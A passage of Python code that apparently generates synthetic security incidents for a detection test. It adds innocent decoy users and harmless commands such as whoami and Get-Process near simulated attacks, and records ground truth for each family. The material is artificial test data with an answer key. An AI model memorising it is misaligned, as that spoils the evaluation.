    """Let innocent people be where the attack is, when it is: the ones that must not be blamed."""
    r = w.rng
    hosts = sorted({h["row"]["device_name"].split(".")[0] for h in w.hits if h["row"].get("device_name")} & set(w.ips))
    innocent = [a for a in [*w.users, *w.admins, *w.svcs] if a not in t.roles]
    if not hosts or not innocent:
        return
    times = sorted(h["row"]["time"] for h in w.hits if h["row"].get("device_name"))
    for who in r.sample(innocent, min(len(innocent), r.randint(0, 6))):
        host = r.choice(hosts)
        x = r.choice(times) + timedelta(seconds=r.randint(-900, 900))
        kind = r.random()
        if host in w.linux:
            w.ssh(x, who, host, w.ips.get(w.ws.get(who, ""), f"{w.net}.240"), method="publickey")
            eid = w.lproc(x + 20 * S, host, who, r.choice(["ls", "df -h", "id", "sudo systemctl restart app"]))
            if r.random() < 0.15:
                w.hit(eid, "Account discovery", "low", ["T1033"], ["discovery"])
        elif kind < 0.5:
            w.logon(x, who, host, kind=r.choice(["3", "10"]), src=w.ws.get(who) or r.choice([h for h in w.ws.values() if h not in hosts] or [w.dc]))
            ids, _ = w.proc(x + 4 * S, host, who, PS, "powershell Get-Process", parent=SYS + "wsmprovhost.exe")
            if r.random() < 0.2:
                w.hit(ids, "Remote PowerShell session", r.choice(["low", "medium"]), ["T1021.006"], ["lateral-movement"])
        else:
            # A shared computer: this person works on it too, and goes on from there.
            w.logon(x - timedelta(minutes=r.randint(20, 200)), who, host, kind="2")
            for _ in range(r.randint(1, 4)):
                y = x - timedelta(minutes=r.randint(15, 190))
                w.proc(y, host, who, "C:\\Program Files\\chrome.exe", "chrome.exe")
            for _ in range(r.randint(0, 3)):
                w.logon(x + timedelta(seconds=r.randint(0, 2000)), who, r.choice([*w.servers, w.dc]), src=host)
            if r.random() < 0.25:
                ids, _ = w.proc(x, host, who, SYS + "whoami.exe", "whoami")
                w.hit(ids, "Whoami", r.choice(["low", "medium"]), ["T1033"], ["discovery"])


def benign(w: World, t: Truth) -> None:
    """No attack: everyday life with its false alarms."""
    _begin(w)


FAMILIES: dict[str, Callable[[World, Truth], None]] = {
    "lateral": lateral, "credential_theft": credential_theft, "spray": spray, "insider": insider, "cloud_key": cloud_key,
    "role_chain": role_chain, "ssh_force": ssh_force, "web_shell": web_shell, "federated": federated, "phishing": phishing,
    "kerberoast": kerberoast, "dcsync": dcsync,
}  # fmt: skip


def make(family: str, seed: int) -> tuple[World, Truth]:
    """Return the world and the truth of one generated incident."""
    world, truth = World(seed), Truth(family)
    for host in [world.dc, *world.servers]:
        world.skew[host] = world.rng.choice([0.0, 0.0, 0.0, world.rng.uniform(-40, 40)])
    (FAMILIES.get(family) or benign)(world, truth)
    crowd(world, truth)
    truth.roles = {k.casefold(): v for k, v in truth.roles.items()}
    return world, truth
